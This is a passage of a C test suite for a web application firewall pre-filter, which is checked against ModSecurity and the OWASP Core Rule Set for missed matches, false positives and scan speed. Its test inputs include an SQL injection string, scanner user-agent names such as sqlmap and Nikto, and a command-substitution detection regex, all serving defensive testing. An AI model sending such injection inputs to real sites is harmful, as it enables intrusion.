				r->label ? r->label : "?", msc_ids, r->method, r->target);
		if (msc_blocked) {
			st->pass_violations++;
			if (st->pass_violations <= 20) {
				fprintf(stderr, "  PL%d PASS VIOLATION (%s): ModSecurity blocked [%s], "
					"the pre-filter decided pass\n", pl, r->label ? r->label : "?",
					msc_ids);
				dump(r);
			}
		}
	}

	st->n++;
	st->msc_hit += hit;
	for (size_t i = 0; i < r->nhdrs; i++)
		if (r->body_len && r->hdrs[i].value_len >= 10 &&
		    !strncasecmp(r->hdrs[i].value, "multipart/", 10)) {
			st->mp++;
			st->mp_skip += !might;
			st->mp_hit += hit;
			break;
		}
	st->pf_skip += !might;
	if (r->kind == 0) {
		st->benign++;
		st->benign_skip += !might;
		if (!hit) {
			st->benign_clean++;
			st->benign_clean_skip += !might;
		}
		st->benign_fp += hit;
		st->benign_fp_pf += hit && might;
	} else if (r->kind == 1) {
		st->attack++;
		st->attack_msc += hit;
		st->attack_pf += hit && might;
	} else if (!hit) {
		st->rnd_clean++;
		st->rnd_clean_skip += !might;
	}
	if (getenv("WAF_PF_WHY") && might && !hit)
		fprintf(stderr, "  PL%d might (rule %ld) %s %s\n", pl, waf_pf_last_rule(sc), r->method,
			r->target);
	if (!might && hit) {
		st->violations++;
		if (st->violations <= 20) {
			fprintf(stderr, "  PL%d VIOLATION (%s): ModSecurity matched [%s], the pre-filter said no\n",
				pl, r->label ? r->label : "?", msc_ids);
			dump(r);
		}
	}
}

/* CPU time of this thread: the machine is shared, wall time is noise */
static double now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

static char prologue_path[64];

static void write_prologue(int pl, bool oracle_rule)
{
	snprintf(prologue_path, sizeof(prologue_path), "/tmp/gh_waf_pf_prologue_%d.conf", (int)getpid());
	FILE *f = fopen(prologue_path, "w");
	fprintf(f,
		"SecRuleEngine On\n"
		"SecRequestBodyAccess On\n"
		"SecRule REQUEST_HEADERS:Content-Type \"application/json\" \\\n"
		"    \"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON\"\n"
		/* gatehouse's prologue: the XML processor too, and a body that
		 * does not parse is refused */
		"SecRule REQUEST_HEADERS:Content-Type \"^(?:application(?:/soap\\+|/)|text/)xml\" "
		"\"id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML\"\n"
		"SecRule REQBODY_ERROR \"!@eq 0\" \"id:200002,phase:2,t:none,log,deny,status:400\"\n"
		"SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=%d\"\n"
		/* owasp-crs.load's IncludeOptional is not SecLang libmodsecurity
		 * 3.0.9 reads: the two Includes it amounts to on Debian, and
		 * gatehouse's default exclusions and rules between them, as
		 * waf_load() puts them */
		"Include /etc/modsecurity/crs/crs-setup.conf\n"
		"%s"
		"Include /usr/share/modsecurity-crs/rules/*.conf\n"
		"%s",
		pl, waf_crs_defaults,
		oracle_rule ? "SecRule TX:ANOMALY_SCORE \"@gt 0\" "
			      "\"id:1999001,phase:2,pass,log,msg:'anomaly score'\"\n" : "");
	fclose(f);
}

/* WAF_PF_SCAN_ONLY: the pre-filter alone over the benign requests of
 * WAF_PF_RAW (WAF_PF_RAW_REPS times each), no ModSecurity, no oracle: for
 * profiling the scan (perf, callgrind). */
static void scan_only(struct waf_pf *pf, struct waf_pf_scratch *sc, int pl)
{
	FILE *f = fopen(getenv("WAF_PF_RAW"), "rb");
	const char *rr = getenv("WAF_PF_RAW_REPS");
	int reps = rr ? atoi(rr) : 1;
	size_t n = 0, might = 0;
	double ms = 0;
	char head[512];
	struct req r;

	if (!f)
		return;
	if (reps < 1)
		reps = 1;
	while (fgets(head, sizeof(head), f)) {
		char kind[32], label[256];
		size_t len;
		if (sscanf(head, "#%31s %255s %zu", kind, label, &len) != 3)
			break;
		char *b = malloc(len + 1);
		if (fread(b, 1, len, f) != len) {
			free(b);
			break;
		}
		fgetc(f);
		if (parse_raw(&r, kind, label, b, len) && r.kind == 0) {
			struct waf_pf_req q = as_pf(&r);
			double a = now_ms();
			for (int k = 0; k < reps; k++)
				might += waf_pf_scan(pf, sc, &q);
			if (getenv("WAF_PF_WHY") && waf_pf_scan(pf, sc, &q)) {
				char why[200];
				waf_pf_last_why(sc, why, sizeof(why));
				printf("  might: %s: %s\n", label, why);
			}
			ms += now_ms() - a;
			n++;
		}
		req_free(&r);
		free(b);
	}
	fclose(f);
	size_t puts, hits = waf_pf_memo_hits(sc, &puts);
	printf("  PL%d scan only: %zu benign requests x %d, %zu might, %.1f us per scan; memo: %zu hits, "
	       "%zu computed\n", pl, n, reps, might / (size_t)reps, n ? ms * 1e3 / ((double)n * reps) : 0.0,
	       hits, puts);
}

static void run_level(int pl)
{
	char err[256];
	const char *files[] = { prologue_path };
	struct stats st = { 0 };

	write_prologue(pl, false);
	pass_pf = waf_pf_build(files, 1, pl, err, sizeof(err));
	CHECK(pass_pf != NULL);
	pass_sc = pass_pf ? waf_pf_scratch_new(pass_pf) : NULL;
	write_prologue(pl, true);
	double t0 = now_ms();
	struct waf_pf *pf = waf_pf_build(files, 1, pl, err, sizeof(err));
	double build = now_ms() - t0;
	CHECK(pf != NULL);
	if (!pf) {
		fprintf(stderr, "  build: %s\n", err);
		return;
	}
	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
	CHECK(sc != NULL);
	if (getenv("WAF_PF_MEMO") && !strcmp(getenv("WAF_PF_MEMO"), "0"))
		waf_pf_scratch_memo(sc, false);
	if (getenv("WAF_PF_SCAN_ONLY") && getenv("WAF_PF_RAW")) {
		scan_only(pf, sc, pl);
		waf_pf_scratch_free(pass_sc);
		waf_pf_free(pass_pf);
		pass_sc = NULL;
		pass_pf = NULL;
		waf_pf_scratch_free(sc);
		waf_pf_free(pf);
		unlink(prologue_path);
		return;
	}

	ModSecurity *ms = msc_init();
	msc_set_log_cb(ms, log_cb);
	RulesSet *rules = msc_create_rules_set();
	const char *merr = NULL;
	for (size_t i = 0; i < 1; i++)
		if (msc_rules_add_file(rules, files[i], &merr) < 0) {
			fprintf(stderr, "  ModSecurity: %s\n", merr ? merr : "?");
			CHECK(0);
			return;
		}

	struct req r;
	for (size_t i = 0; builtin(&r, i); i++) {
		r.label = "builtin";
		check(pf, sc, ms, rules, &r, &st, pl);
		if (r.kind == 0 && i == 1) {
			/* scan cost on a typical benign request */
			struct waf_pf_req q = as_pf(&r);
			double a = now_ms();
			const char *bn = getenv("WAF_PF_BENCH");
			int n = bn ? atoi(bn) : 5000;
			for (int k = 0; k < n; k++)
				(void)waf_pf_scan(pf, sc, &q);
			double per = (now_ms() - a) * 1e6 / n;
			a = now_ms();
			for (int k = 0; k < 200; k++)
				(void)msc_run(ms, rules, &r);
			double mper = (now_ms() - a) * 1e6 / 200;
			printf("  PL%d scan: %.0f ns/request (ModSecurity: %.0f ns)\n", pl, per, mper);
		}
		req_free(&r);
	}
	const char *seed = getenv("WAF_PF_SEED");
	if (seed)
		rng = strtoull(seed, NULL, 10) | 1;
	const char *rn = getenv("WAF_PF_RANDOM");
	long nrand = rn ? atol(rn) : 800;
	for (long i = 0; i < nrand; i++) {
		gen_random(&r);
		check(pf, sc, ms, rules, &r, &st, pl);
		req_free(&r);
	}
	const char *raw = getenv("WAF_PF_RAW");
	FILE *f = raw ? fopen(raw, "rb") : NULL;
	const char *rr = getenv("WAF_PF_RAW_REPS");
	int raw_reps = rr ? atoi(rr) : 1;
	double raw_ms = 0;
	size_t raw_n = 0;
	if (raw_reps < 1)
		raw_reps = 1;
	if (f) {
		char head[512];
		size_t skipped = 0;
		while (fgets(head, sizeof(head), f)) {
			char kind[32], label[256];
			size_t len;
			if (sscanf(head, "#%31s %255s %zu", kind, label, &len) != 3)
				break;
			char *b = malloc(len + 1);
			if (fread(b, 1, len, f) != len) {
				free(b);
				break;
			}
			fgetc(f);
			if (parse_raw(&r, kind, label, b, len)) {
				r.label = label;
				check(pf, sc, ms, rules, &r, &st, pl);
				if (r.kind == 0) {
					/* the scan's cost on this benign request */
					struct waf_pf_req q = as_pf(&r);
					double a = now_ms();
					for (int k = 0; k < raw_reps; k++)
						(void)waf_pf_scan(pf, sc, &q);
					raw_ms += now_ms() - a;
					raw_n++;
				}
				req_free(&r);
			} else {
				req_free(&r);
				skipped++;
			}
			free(b);
		}
		fclose(f);
		printf("  PL%d corpus: %zu unparsable raw requests skipped\n", pl, skipped);
		if (raw_n)
			printf("  PL%d corpus: scan %.1f us per benign request on average (%zu requests)\n",
			       pl, raw_ms * 1e3 / ((double)raw_n * raw_reps), raw_n);
	}
	printf("  PL%d: build %.0f ms, %zu patterns, %zu fallbacks, database %zu KiB\n", pl, build,
	       waf_pf_patterns(pf), waf_pf_fallbacks(pf), waf_pf_db_bytes(pf) / 1024);
	printf("  PL%d: %zu requests checked, %zu matched by ModSecurity, %zu skipped by the pre-filter, "
	       "%zu violations\n", pl, st.n, st.msc_hit, st.pf_skip, st.violations);
	printf("  PL%d: benign requests ModSecurity passes: %zu/%zu skipped (%.1f%%)\n", pl,
	       st.benign_clean_skip, st.benign_clean,
	       st.benign_clean ? 100.0 * st.benign_clean_skip / st.benign_clean : 0.0);
	printf("  PL%d: benign %zu/%zu skipped (%.1f%%); random requests ModSecurity passes: %zu/%zu "
	       "skipped; attacks ModSecurity caught %zu/%zu\n", pl, st.benign_skip, st.benign,
	       st.benign ? 100.0 * st.benign_skip / st.benign : 0.0, st.rnd_clean_skip, st.rnd_clean,
	       st.attack_msc, st.attack);
	printf("  PL%d: detection without / with the pre-filter: attacks %zu/%zu vs %zu/%zu, "
	       "benign flagged %zu/%zu vs %zu/%zu\n", pl, st.attack_msc, st.attack, st.attack_pf,
	       st.attack, st.benign_fp, st.benign, st.benign_fp_pf, st.benign);
	printf("  PL%d: multipart bodies: %zu, %zu matched by ModSecurity, %zu skipped by the "
	       "pre-filter\n", pl, st.mp, st.mp_hit, st.mp_skip);
	printf("  PL%d: decided pass by the pre-filter: %zu requests, %zu of them matched by "
	       "ModSecurity, %zu blocked (violations)\n", pl, st.passed, st.passed_hit,
	       st.pass_violations);
	CHECK_EQ_INT(st.violations, 0);
	CHECK_EQ_INT(st.pass_violations, 0);
	waf_pf_scratch_free(pass_sc);
	waf_pf_free(pass_pf);
	pass_sc = NULL;
	pass_pf = NULL;
	CHECK_EQ_INT(st.attack_pf, st.attack_msc);
	CHECK_EQ_INT(st.benign_fp_pf, st.benign_fp);
	waf_pf_scratch_free(sc);
	waf_pf_free(pf);
	msc_rules_cleanup(rules);
	msc_cleanup(ms);
	unlink(prologue_path);
}

TEST(test_against_modsecurity)
{
	const char *lv = getenv("WAF_PF_LEVELS");
	if (!lv)
		lv = "1 2";
	for (const char *p = lv; *p; p++)
		if (*p >= '1' && *p <= '4')
			run_level(*p - '0');
}

TEST(test_build_errors)
{
	char err[256];
	const char *files[] = { "/nonexistent/waf.conf" };
	struct waf_pf *pf = waf_pf_build(files, 1, 1, err, sizeof(err));
	CHECK(pf == NULL);
	CHECK(strstr(err, "/nonexistent/waf.conf") != NULL);
}

static struct waf_pf *small(const char *conf, int pl)
{
	char path[64], err[256];
	snprintf(path, sizeof(path), "/tmp/gh_waf_pf_small_%d.conf", (int)getpid());
	FILE *f = fopen(path, "w");
	fputs(conf, f);
	fclose(f);
	const char *files[] = { path };
	struct waf_pf *pf = waf_pf_build(files, 1, pl, err, sizeof(err));
	if (!pf)
		fprintf(stderr, "  build: %s\n", err);
	unlink(path);
	return pf;
}

static bool scan_get(struct waf_pf *pf, const char *target, const char *ua)
{
	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
	struct waf_pf_hdr h[2] = {
		{ "Host", 4, "a.example", 9 },
		{ "User-Agent", 10, ua, strlen(ua) },
	};
	struct waf_pf_req r = { "GET", 3, target, strlen(target), "HTTP/1.1", 8, h, 2, NULL, 0 };
	bool m = waf_pf_scan(pf, sc, &r);
	waf_pf_scratch_free(sc);
	return m;
}

/* scan_get's verdict: 0 cannot match, 1 might, 2 decided pass */
static int scan_pass(struct waf_pf *pf, const char *target)
{
	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
	struct waf_pf_hdr h[1] = { { "Host", 4, "a.example", 9 } };
	struct waf_pf_req r = { "GET", 3, target, strlen(target), "HTTP/1.1", 8, h, 1, NULL, 0 };
	int v = waf_pf_scan(pf, sc, &r) ? 1 + waf_pf_passed(sc) : 0;
	waf_pf_scratch_free(sc);
	return v;
}

/* The CRS's shape in small: 920220's chain adds a warning score, 949060
 * sums, 949110 denies at the threshold.  `head` goes first, `tail` last. */
static struct waf_pf *pass_set(const char *head, int threshold, const char *tail)
{
	char conf[4096];
	snprintf(conf, sizeof(conf),
		 "%s"
		 "SecAction \"id:1,phase:1,nolog,pass,setvar:tx.inbound_anomaly_score_threshold=%d,"
		 "setvar:tx.warning_anomaly_score=3,setvar:tx.critical_anomaly_score=5\"\n"
		 "SecAction \"id:2,phase:1,nolog,pass,setvar:tx.anomaly_score=0,"
		 "setvar:tx.anomaly_score_pl1=0\"\n"
		 "SecRule REQUEST_URI \"@rx \\x25\" \"id:920220,phase:2,block,t:none,"
		 "msg:'URL Encoding Abuse',severity:'WARNING',chain\"\n"
		 "    SecRule REQUEST_URI \"@validateUrlEncoding\" "
		 "\"setvar:'tx.anomaly_score_pl1=+%%{tx.warning_anomaly_score}'\"\n"
		 "SecRule REQUEST_FILENAME \"@endsWith .bak\" \"id:920500,phase:2,block,t:none,"
		 "setvar:'tx.anomaly_score_pl1=+%%{tx.critical_anomaly_score}'\"\n"
		 "SecRule REQUEST_URI \"@contains warnme\" \"id:920101,phase:2,block,t:none,"
		 "setvar:'tx.anomaly_score_pl1=+%%{tx.warning_anomaly_score}'\"\n"
		 "SecRule ARGS \"@rx evil\" \"id:942000,phase:2,block,t:none,"
		 "setvar:'tx.anomaly_score_pl1=+%%{tx.critical_anomaly_score}'\"\n"
		 "SecRule TX:PARANOIA_LEVEL \"@ge 1\" \"id:949060,phase:2,pass,t:none,nolog,"
		 "setvar:'tx.anomaly_score=+%%{tx.anomaly_score_pl1}'\"\n"
		 "SecRule TX:ANOMALY_SCORE \"@ge %%{tx.inbound_anomaly_score_threshold}\" "
		 "\"id:949110,phase:2,deny,t:none,log,setvar:'tx.inbound_anomaly_score=%%{tx.anomaly_score}'\"\n"
		 "%s",
		 head, threshold, tail);
	return small(conf, 1);
}

/* "Decided: pass" (pf_pass.c): a request only score rules below the
 * threshold might match is passed without ModSecurity; anything that
 * could make the sum reach it, or read it otherwise, is not. */
TEST(test_decided_pass)
{
	const char *def = "SecDefaultAction \"phase:1,log,auditlog,pass\"\n"
			  "SecDefaultAction \"phase:2,log,auditlog,pass\"\n";
	struct waf_pf *pf = pass_set(def, 5, "");
	CHECK(pf != NULL);
	if (!pf)
		return;
	CHECK_EQ_INT(scan_pass(pf, "/search?q=shoes"), 0);
	CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25%20off"), 2);	/* 920220 might: 3 < 5 */
	CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 2);	/* "% o": 3 < 5 */
	CHECK_EQ_INT(scan_pass(pf, "/warnme?q=50%25 off"), 1);	/* 3 + 3 >= 5 */
	CHECK_EQ_INT(scan_pass(pf, "/db.bak"), 1);			/* 5 >= 5 */
	CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off&a=evil"), 1);	/* an ARGS rule */
	waf_pf_free(pf);

	/* the threshold at 3: one warning reaches it */
	pf = pass_set(def, 3, "");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);

	/* no SecDefaultAction for phase 2: `block` is not known to pass */
	pf = pass_set("SecDefaultAction \"phase:1,log,auditlog,pass\"\n", 5, "");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);

	/* `block` is the default action: deny in phase 2 */
	pf = pass_set("SecDefaultAction \"phase:2,log,auditlog,deny,status:403\"\n", 5, "");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);

	/* another reader of the score that is no threshold */
	pf = pass_set(def, 5, "SecRule TX:ANOMALY_SCORE \"@lt 100\" \"id:3,phase:2,pass,nolog,"
			     "skipAfter:END\"\nSecRule ARGS \"@rx x\" \"id:4,phase:2,deny\"\n"
			     "SecMarker END\n");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);
	pf = pass_set(def, 5, "SecRule TX:/^anomaly/ \"@gt 1\" \"id:3,phase:2,deny,chain\"\n"
			     "    SecRule REQUEST_METHOD \"@streq GET\" \"t:none\"\n");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);

	/* a second threshold lower than the first */
	pf = pass_set(def, 5, "SecRule TX:ANOMALY_SCORE \"@gt 2\" \"id:3,phase:2,deny\"\n");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);

	/* a rule that might match does more than add: a ctl, an action the
	 * pre-filter does not know */
	pf = pass_set(def, 5, "SecRule REQUEST_URI \"@contains off\" \"id:3,phase:2,pass,"
			     "log,ctl:ruleEngine=Off\"\n");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);
	pf = pass_set(def, 5, "SecRule REQUEST_URI \"@contains off\" \"id:3,phase:2,pass,"
			     "log,setenv:x=1\"\n");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);

	/* the score is set from a request value: not bounded */
	pf = pass_set("SecRule ARGS:n \"@rx ^(\\d+)$\" \"id:5,phase:1,pass,nolog,capture,"
		      "setvar:tx.anomaly_score_pl1=%{tx.1}\"\n", 5, "");
	CHECK(pf != NULL);
	if (pf)
		CHECK_EQ_INT(scan_pass(pf, "/search?q=50%25 off"), 1);
	waf_pf_free(pf);
}

/* The same on the CRS as shipped (and gatehouse's defaults), at PL1 and
 * PL2: the bench's "50%25 off" (920220 only) is decided; with a method
 * CRS does not allow (911100, critical) or an SQL injection it is not. */
TEST(test_decided_pass_crs)
{
	char err[256];
	for (int pl = 1; pl <= 2; pl++) {
		write_prologue(pl, false);
		const char *files[] = { prologue_path };
		struct waf_pf *pf = waf_pf_build(files, 1, pl, err, sizeof(err));
		CHECK(pf != NULL);
		if (!pf)
			continue;
		struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
		struct waf_pf_hdr h[3] = {
			{ "Host", 4, "shop.example.com", 16 },
			{ "User-Agent", 10, "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Firefox/121.0", 55 },
			{ "Accept", 6, "text/html", 9 },
		};
		const char *t = "/search?q=50%25+off";
		struct waf_pf_req r = { "GET", 3, t, strlen(t), "HTTP/1.1", 8, h, 3, NULL, 0 };
		CHECK(waf_pf_scan(pf, sc, &r));
		CHECK(waf_pf_passed(sc));
		CHECK_EQ_INT(waf_pf_last_rule(sc), 920220);
		/* a method CRS does not allow: 911100 (critical) as well */
		struct waf_pf_req r2 = r;
		r2.method = "FOO";
		r2.method_len = 3;
		CHECK(waf_pf_scan(pf, sc, &r2));
		CHECK(!waf_pf_passed(sc));
		/* an attack with it: 942... might */
		const char *t3 = "/search?q=50%25+off'+or+1=1--";
		struct waf_pf_req r3 = r;
		r3.target = t3;
		r3.target_len = strlen(t3);
		CHECK(waf_pf_scan(pf, sc, &r3));
		CHECK(!waf_pf_passed(sc));
		waf_pf_scratch_free(sc);
		waf_pf_free(pf);
		unlink(prologue_path);
	}
}

/* SecLang as the pre-filter reads it: continuations, chains, static
 * skipAfter gates, transformations, @pm, what never matches. */
TEST(test_small_rule_set)
{
	static const char conf[] =
		"# a comment\n"
		"SecAction \"id:1,phase:1,nolog,pass,setvar:tx.limit=5\"\n"
		"SecRule TX:PARANOIA_LEVEL \"@lt 2\" \"id:2,phase:2,nolog,pass,skipAfter:END-PL2\"\n"
		"SecRule ARGS \"@rx onlypl2\" \"id:3,phase:2,block,msg:'pl2'\"\n"
		"SecMarker END-PL2\n"
		"SecRule ARGS|!ARGS:safe \\\n"
		"    \"@rx evil\\d+\" \\\n"
		"    \"id:4,phase:2,block,t:none,t:urlDecodeUni,t:lowercase,msg:'evil',\\\n"
		"    setvar:'tx.anomaly_score_pl1=+5'\"\n"
		"SecRule REQUEST_HEADERS:User-Agent \"@pm sqlmap nikto\" \"id:5,phase:1,block,t:none\"\n"
		"SecRule TX:LIMIT \"@lt 3\" \"id:6,phase:2,block,chain\"\n"
		"    SecRule ARGS \"@rx .\" \"t:none\"\n"
		"SecRule REQUEST_FILENAME \"@endsWith .bak\" \"id:7,phase:1,block,t:none,t:lowercase\"\n"
		"SecRule ARGS \"@rx zzz\" \"id:8,phase:2,block,msg:'a chain here'\"\n"
		"SecRule ARGS \"@rx yyy\" \"id:9,phase:2,block\"\n";
	struct waf_pf *pf = small(conf, 1);
	CHECK(pf != NULL);
	if (!pf)
		return;
	CHECK(!scan_get(pf, "/?a=good&b=1", "Mozilla/5.0"));
	CHECK(scan_get(pf, "/?a=EVIL12", "Mozilla/5.0"));
	CHECK(scan_get(pf, "/?a=%45vil7", "Mozilla/5.0"));
	CHECK(!scan_get(pf, "/?safe=evil1", "Mozilla/5.0"));	/* excluded */
	CHECK(scan_get(pf, "/?evil9=1", "Mozilla/5.0") == false);	/* names not read */
	CHECK(!scan_get(pf, "/?a=onlypl2", "Mozilla/5.0"));	/* skipped at PL1 */
	CHECK(scan_get(pf, "/", "Nikto/2.1"));
	CHECK(scan_get(pf, "/db.BAK", "x"));
	CHECK(!scan_get(pf, "/db.bak.txt", "x"));
	CHECK(scan_get(pf, "/?a=yyy", "x"));	/* "chain" in a msg is no chain */
	waf_pf_free(pf);

	pf = small(conf, 2);
	CHECK(pf != NULL);
	if (pf) {
		CHECK(scan_get(pf, "/?a=onlypl2", "Mozilla/5.0"));
		waf_pf_free(pf);
	}

	/* a rule changed after it was read: the pre-filter claims nothing */
	static const char upd[] =
		"SecRule ARGS \"@rx evil\" \"id:4,phase:2,block\"\n"
		"SecRuleUpdateTargetById 4 REQUEST_HEADERS\n";
	pf = small(upd, 1);
	CHECK(pf != NULL);
	if (pf) {
		CHECK(scan_get(pf, "/?a=good", "Mozilla/5.0"));
		waf_pf_free(pf);
	}

	/* exclusions only (gatehouse's free-text defaults): followed, before
	 * the rule as after it, by name and by regex */
	static const char excl[] =
		"SecRuleUpdateTargetById 10 \"!ARGS:'/(?i)(?:^|[.])(?:comment|message)$/'\"\n"
		"SecRule ARGS \"@rx evil\" \"id:10,phase:2,block\"\n"
		"SecRule ARGS \"@rx bad\" \"id:11,phase:2,block\"\n"
		"SecRuleUpdateTargetById 11 !ARGS:note\n";
	pf = small(excl, 1);
	CHECK(pf != NULL);
	if (pf) {
		CHECK(!scan_get(pf, "/?comment=evil&Message=evil&note=bad", "Mozilla/5.0"));
		CHECK(scan_get(pf, "/?comments=evil", "Mozilla/5.0"));
		CHECK(scan_get(pf, "/?comment=bad", "Mozilla/5.0"));	/* 11 still reads it */
		CHECK(scan_get(pf, "/?note=evil", "Mozilla/5.0"));	/* 10 still reads it */
		waf_pf_free(pf);
	}
	/* an id range is not followed */
	static const char range[] =
		"SecRule ARGS \"@rx evil\" \"id:12,phase:2,block\"\n"
		"SecRuleUpdateTargetById 12-13 !ARGS:x\n";
	pf = small(range, 1);
	CHECK(pf != NULL);
	if (pf) {
		CHECK(scan_get(pf, "/?a=good", "Mozilla/5.0"));
		waf_pf_free(pf);
	}
}

/* A GET of target with headers "Name: value" (NULL-terminated), scanned
 * with sc (kept across calls: the clean-value memo lives in it). */
static bool scan_with(struct waf_pf *pf, struct waf_pf_scratch *sc, const char *target,
		      const char *const *hdrs)
{
	struct waf_pf_hdr h[16];
	size_t n = 0;

	for (; hdrs && hdrs[n] && n < 16; n++) {
		const char *colon = strchr(hdrs[n], ':');
		const char *v = colon + 1;
		while (*v == ' ')
			v++;
		h[n] = (struct waf_pf_hdr){ hdrs[n], (size_t)(colon - hdrs[n]), v, strlen(v) };
	}
	struct waf_pf_req r = { "GET", 3, target, strlen(target), "HTTP/1.1", 8, h, n, NULL, 0 };
	return waf_pf_scan(pf, sc, &r);
}

/* ARGS:/re/ reads the arguments whose name the regex matches (caselessly,
 * as libmodsecurity compiles it), &ARGS:/re/ counts only those, and a
 * regex exclusion is caseless too. */
TEST(test_regex_selectors)
{
	static const char conf[] =
		"SecRule ARGS:'/^comment_/' \"@contains evil\" \"id:20,phase:2,block\"\n"
		"SecRule &ARGS:/^id$/ \"@eq 0\" \"id:21,phase:2,block,chain\"\n"
		"    SecRule REQUEST_FILENAME \"@streq /needs-id\" \"t:none\"\n"
		"SecRule ARGS|!ARGS:/^safe_/ \"@contains bad\" \"id:22,phase:2,block\"\n"
		"SecRule REQUEST_HEADERS:'/^x-trace-/' \"@contains boom\" \"id:23,phase:1,block\"\n";
	struct waf_pf *pf = small(conf, 1);
	CHECK(pf != NULL);
	if (!pf)
		return;
	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
	const char *plain[] = { "Host: a.example", NULL };
	/* selector */
	CHECK(!scan_with(pf, sc, "/?other=evil", plain));
	CHECK(scan_with(pf, sc, "/?comment_1=evil", plain));
	CHECK(scan_with(pf, sc, "/?COMMENT_1=evil", plain));
	CHECK(!scan_with(pf, sc, "/?xcomment_1=evil", plain));
	/* count: ModSecurity counts 0 arguments named id here */
	CHECK(scan_with(pf, sc, "/needs-id?x=1", plain));
	CHECK(!scan_with(pf, sc, "/needs-id?id=1", plain));
	CHECK(!scan_with(pf, sc, "/needs-id?ID=1&x=2", plain));
	/* exclusion */
	CHECK(!scan_with(pf, sc, "/?safe_a=bad", plain));
	CHECK(!scan_with(pf, sc, "/?SAFE_a=bad", plain));
	CHECK(scan_with(pf, sc, "/?unsafe_a=bad", plain));
	/* headers */
	const char *trace[] = { "Host: a.example", "X-Trace-Id: boom", NULL };
	const char *other[] = { "Host: a.example", "X-Other: boom", NULL };
	CHECK(scan_with(pf, sc, "/", trace));
	CHECK(!scan_with(pf, sc, "/", other));
	waf_pf_scratch_free(sc);
	waf_pf_free(pf);
}

/* A dot-star between one-byte ends, far into the scanned text or far
 * apart: Vectorscan 5.4.9's AVX-512 scan (hs_scan's pick on such CPUs)
 * misses both; the pre-filter must not (pf_scan.c's scan_select). */
TEST(test_dotstar_far_in)
{
	static const char conf[] =
		"SecRule ARGS \"@rx \\$(?:\\((?:\\(.*\\)|.*)\\)|\\{.*\\})\" "
		"\"id:30,phase:2,block,t:none,t:urlDecodeUni\"\n"
		"SecRule ARGS \"@rx a.*c\" \"id:31,phase:2,block,t:none\"\n";
	struct waf_pf *pf = small(conf, 1);
	CHECK(pf != NULL);
	if (!pf)
		return;
	char t[600];
	int n = snprintf(t, sizeof(t), "/?pad=%0100d&note=%%24%%7B", 0);
	for (int i = 0; i < 120; i++)
		t[n++] = 'x';
	snprintf(t + n, sizeof(t) - (size_t)n, "%%7D");
	CHECK(scan_get(pf, t, "Mozilla/5.0"));
	n = snprintf(t, sizeof(t), "/?pad=%0100d&b=a", 0);
	for (int i = 0; i < 150; i++)
		t[n++] = 'x';
	snprintf(t + n, sizeof(t) - (size_t)n, "c");
	CHECK(scan_get(pf, t, "Mozilla/5.0"));
	CHECK(!scan_get(pf, "/?pad=0000000000000000000000000000000000000000000000000000000000000000000000&b=ax", "x"));
	waf_pf_free(pf);
}

/* The clean-value memo: a header value proven clean is not scanned again,
 * and nothing that depends on more than (collection, name, value) is
 * taken from it. */
TEST(test_clean_memo)
{
	static const char conf[] =
		"SecRule REQUEST_HEADERS:User-Agent \"@contains sqlmap\" \"id:30,phase:1,block,t:lowercase\"\n"
		"SecRule REQUEST_HEADERS \"@rx attack\\d\" \"id:31,phase:1,block\"\n"
		/* a chained rule across a header and an argument */
		"SecRule REQUEST_HEADERS:X-A \"@contains foo\" \"id:32,phase:2,block,chain\"\n"
		"    SecRule ARGS \"@contains bar\" \"t:none\"\n"
		/* MATCHED_VARS and a capture */
		"SecRule REQUEST_HEADERS \"@rx ^a\" \"id:33,phase:1,block,chain\"\n"
		"    SecRule MATCHED_VARS \"@contains zz\" \"t:none\"\n"
		"SecRule REQUEST_HEADERS:X-C \"@rx ^k=(\\w+)\" \"id:34,phase:1,block,capture,chain\"\n"
		"    SecRule TX:1 \"@streq open\" \"t:none\"\n"
		/* a count */
		"SecRule &REQUEST_HEADERS:X-Count \"@eq 1\" \"id:35,phase:1,block\"\n"
		/* libinjection on a cookie */
		"SecRule REQUEST_COOKIES \"@detectSQLi\" \"id:36,phase:2,block\"\n";
	struct waf_pf *pf = small(conf, 1);
	CHECK(pf != NULL);
	if (!pf)
		return;
	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
	struct waf_pf_scratch *off = waf_pf_scratch_new(pf);
	waf_pf_scratch_memo(off, false);
	static const char *const reqs[][6] = {
		/* benign, repeated: memoized */
		{ "Host: a.example", "User-Agent: Mozilla/5.0 (X11)", "Accept: */*",
		  "Cookie: sid=abc123; theme=dark", NULL },
		/* the same UA with one byte more */
		{ "Host: a.example", "User-Agent: Mozilla/5.0 (X11) sqlmap", NULL },
